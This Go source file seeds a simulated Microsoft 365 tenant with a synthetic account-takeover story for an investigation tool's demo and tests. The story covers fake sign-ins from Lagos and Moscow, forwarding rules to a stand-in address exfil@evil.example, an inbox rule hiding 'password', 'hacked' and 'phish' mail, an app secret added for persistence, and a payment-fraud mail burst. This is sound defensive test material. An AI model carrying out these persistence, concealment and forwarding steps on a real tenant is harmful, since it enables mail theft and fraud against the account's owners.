package tenantsim

import (
	"fmt"
	"time"
)

// The attacker of the demo tenant's story; tests and `make demo` look for these.
const (
	AttackerIP       = "198.51.100.23"
	AttackerIPv6     = "2001:db8:bad::7"
	AttackerCountry  = "NG"
	AttackerCountry2 = "RU"
	HomeIP           = "203.0.113.10"
	HomeIPv6         = "2001:db8:10::25"
	// AttackBurst is how many messages to external recipients the attacker sent.
	AttackBurst = 45
	// AttackerSession and AttackerSession2 are the Entra ID sessions of the attacker's
	// sign-ins from AttackerIP (Lagos) and AttackerIPv6 (Moscow): the sign-ins' sessionId
	// and the AADSessionId of the audit records of what the attacker did in them.
	AttackerSession  = "5e55100a-7a7a-4e0a-9bad-00000000a771"
	AttackerSession2 = "5e55100a-7a7a-4e0a-9bad-00000000a772"
	// AttackerReadItems is how many messages the attacker opened (MailItemsAccessed Bind)
	// in AttackerSession; in AttackerSession2 the attacker synced the inbox whole.
	AttackerReadItems = 25
)

// seedAttackStory writes what the unified audit log, the sign-in logs, the directory audit
// log and the message trace would hold for the demo user: six days of ordinary sign-ins
// from Seattle, then, about three hours ago, failed and successful sign-ins from Lagos and
// Moscow, an authenticator registered and an app consented from the attacker's address,
// the forwarding rules and mailbox forwarding created from it, and a burst of mail to
// external recipients; and, from the attacker's address, a sign-in to a colleague's
// account (Lee Gu), which the investigation's related users find.
func seedAttackStory(s *Sim, d Demo) {
	now := time.Now().UTC().Truncate(time.Minute)
	ago := func(dur time.Duration) time.Time { return now.Add(-dur) }
	user := d.UserID

	for day := 6; day >= 1; day-- {
		morning := ago(time.Duration(day)*24*time.Hour + 2*time.Hour)
		s.AddSignIn(SignIn{UserID: user, Time: morning, App: "Office 365 Exchange Online", ClientApp: "Browser", IP: HomeIP, City: "Seattle", State: "Washington", Country: "US"})
		s.AddSignIn(SignIn{UserID: user, Time: morning.Add(5 * time.Hour), App: "Microsoft Teams", ClientApp: "Mobile Apps and Desktop clients", IP: HomeIPv6, City: "Seattle", State: "Washington", Country: "US"})
		for i := 0; i < 3; i++ {
			s.AddSentMessage(SentMessage{Sender: d.UPN, Time: morning.Add(time.Duration(i+1) * time.Hour), Subject: fmt.Sprintf("Project Falcon update %d", i+1),
				Recipients: []string{d.ManagerUPN, d.AssistantUPN}, FromIP: HomeIP})
		}
		s.AddSentMessage(SentMessage{Sender: d.UPN, Time: morning.Add(4 * time.Hour), Subject: "Order confirmation", Recipients: []string{"orders@fabrikam.example"}, FromIP: HomeIP})
	}

	// The attack.
	for i := 0; i < 3; i++ {
		s.AddSignIn(SignIn{UserID: user, Time: ago(3*time.Hour - time.Duration(i)*time.Minute), App: "OfficeHome", ClientApp: "Browser",
			IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, ErrorCode: 50126,
			FailureReason: "Error validating credentials due to invalid username or password."})
	}
	s.AddSignIn(SignIn{UserID: user, Time: ago(2*time.Hour + 50*time.Minute), App: "OfficeHome", ClientApp: "Browser",
		IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, Risk: "medium", SessionID: AttackerSession})
	s.AddSignIn(SignIn{UserID: user, Time: ago(2*time.Hour + 25*time.Minute), App: "Office 365 Exchange Online", ClientApp: "Browser",
		IP: AttackerIPv6, City: "Moscow", State: "Moscow", Country: AttackerCountry2, SessionID: AttackerSession2})
	// The attacker's token at work: a non-interactive sign-in in the Lagos session (Graph
	// beta lists it; v1.0 does not).
	s.AddSignIn(SignIn{UserID: user, Time: ago(2*time.Hour + 15*time.Minute), App: "Office 365 Exchange Online", ClientApp: "Mobile Apps and Desktop clients",
		IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, SessionID: AttackerSession, NonInteractive: true})

	// The attacker's Authenticator registration ("User registered security info", 2 h 45 min
	// ago, from AttackerIP) is written by AddAuthMethod in seedDemoAuth.
	s.AddDirectoryAudit(DirectoryAudit{Time: ago(2*time.Hour + 40*time.Minute), Activity: "Consent to application", Category: "ApplicationManagement",
		Service: "Core Directory", InitiatorID: user, InitiatorUPN: d.UPN, IP: AttackerIP, TargetID: "c0ffee00-0000-4000-8000-00000000c0de", TargetName: "Mail Sync Pro", TargetType: "ServicePrincipal",
		// Her consent for herself, as Entra ID records a user's consent.
		Modified: [][2]string{{"ConsentContext.IsAdminConsent", `"False"`}, {"ConsentContext.IsAppOnly", `"False"`}, {"ConsentContext.OnBehalfOfAll", `"False"`}}})
	// Persistence no containment step undoes: a secret added to the consented app's service
	// principal, as Adele (an Exchange administrator), so the app keeps app-only access after
	// her account is contained. The investigation names it for a person.
	s.AddDirectoryAudit(DirectoryAudit{Time: ago(2*time.Hour + 35*time.Minute), Activity: "Add service principal credentials", Category: "ApplicationManagement",
		Service: "Core Directory", InitiatorID: user, InitiatorUPN: d.UPN, IP: AttackerIP, TargetID: "c0ffee00-0000-4000-8000-00000000c0de", TargetName: "Mail Sync Pro", TargetType: "ServicePrincipal",
		Modified: [][2]string{{"KeyDescription", `"[KeyIdentifier=5d6e…, KeyType=Password, KeyUsage=Verify, DisplayName=sync]"`}}})
	// Something the helpdesk did to the user a week ago: target, not initiator.
	s.AddDirectoryAudit(DirectoryAudit{Time: ago(6*24*time.Hour + 3*time.Hour), Activity: "Update user", Category: "UserManagement",
		Service: "Core Directory", InitiatorID: d.ManagerID, InitiatorUPN: d.ManagerUPN, IP: "", TargetID: user, TargetName: d.UPN, TargetType: "User"})

	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 30*time.Minute), Operation: "New-InboxRule", ClientIP: AttackerIP + ":50412",
		ObjectID: d.UPN + `\Sync`, Parameters: [][2]string{{"Mailbox", d.UPN}, {"Name", "Sync"}, {"ForwardTo", "exfil@evil.example"}, {"StopProcessingRules", "True"}},
		SessionID: AttackerSession})
	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 28*time.Minute), Operation: "New-InboxRule", ClientIP: AttackerIP + ":50419",
		ObjectID: d.UPN + `\.`, Parameters: [][2]string{{"Mailbox", d.UPN}, {"Name", "."}, {"MoveToFolder", "RSS Feeds"}, {"MarkAsRead", "True"}, {"SubjectOrBodyContainsWords", "password;hacked;phish"}}})
	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 20*time.Minute), Operation: "Set-Mailbox", ClientIP: "[" + AttackerIPv6 + "]:443",
		ObjectID: d.UPN, Parameters: [][2]string{{"Identity", d.UPN}, {"ForwardingSmtpAddress", "smtp:exfil@evil.example"}, {"DeliverToMailboxAndForward", "True"}},
		SessionID: AttackerSession2})
	// The attacker lets the colleague's account (reached below) read the inbox.
	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 18*time.Minute), Operation: "Add-MailboxFolderPermission", ClientIP: AttackerIP + ":50433",
		ObjectID: d.UPN + `:\Inbox`, Parameters: [][2]string{{"Identity", d.UPN + `:\Inbox`}, {"User", d.AssistantUPN}, {"AccessRights", "Reviewer"}},
		SessionID: AttackerSession})
	// What the attacker read: messages opened in the Lagos session, the inbox synced whole
	// in the Moscow one; and the user's own reading the days before.
	for i, n := range []int{12, 8, 5} {
		s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + time.Duration(12-i*3)*time.Minute), Operation: "MailItemsAccessed",
			ClientIP: AttackerIP, MailAccessType: "Bind", Items: n, SessionID: AttackerSession})
	}
	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 22*time.Minute), Operation: "MailItemsAccessed",
		ClientIP: AttackerIPv6, MailAccessType: "Sync", SessionID: AttackerSession2})
	for day := 3; day >= 1; day-- {
		s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(time.Duration(day)*24*time.Hour + time.Hour), Operation: "MailItemsAccessed",
			ClientIP: HomeIP, MailAccessType: "Bind", Items: 6})
	}

	// The attacker tries the same address on a colleague: two failed guesses, then in.
	// Nothing of Lee's is changed; the investigation of Adele finds Lee as related.
	for i := 0; i < 2; i++ {
		s.AddSignIn(SignIn{UserID: d.AssistantID, Time: ago(2*time.Hour + 10*time.Minute - time.Duration(i)*time.Minute), App: "OfficeHome", ClientApp: "Browser",
			IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, ErrorCode: 50126,
			FailureReason: "Error validating credentials due to invalid username or password."})
	}
	s.AddSignIn(SignIn{UserID: d.AssistantID, Time: ago(2*time.Hour + 5*time.Minute), App: "OfficeHome", ClientApp: "Browser",
		IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry})

	burst := ago(1*time.Hour + 30*time.Minute).Truncate(time.Hour).Add(5 * time.Minute)
	for i := 0; i < AttackBurst; i++ {
		s.AddSentMessage(SentMessage{Sender: d.UPN, Time: burst.Add(time.Duration(i) * 30 * time.Second), Subject: "Updated payment details",
			Recipients: []string{fmt.Sprintf("accounts%02d@vendor%d.example", i, i%9)}, FromIP: AttackerIP})
	}
}
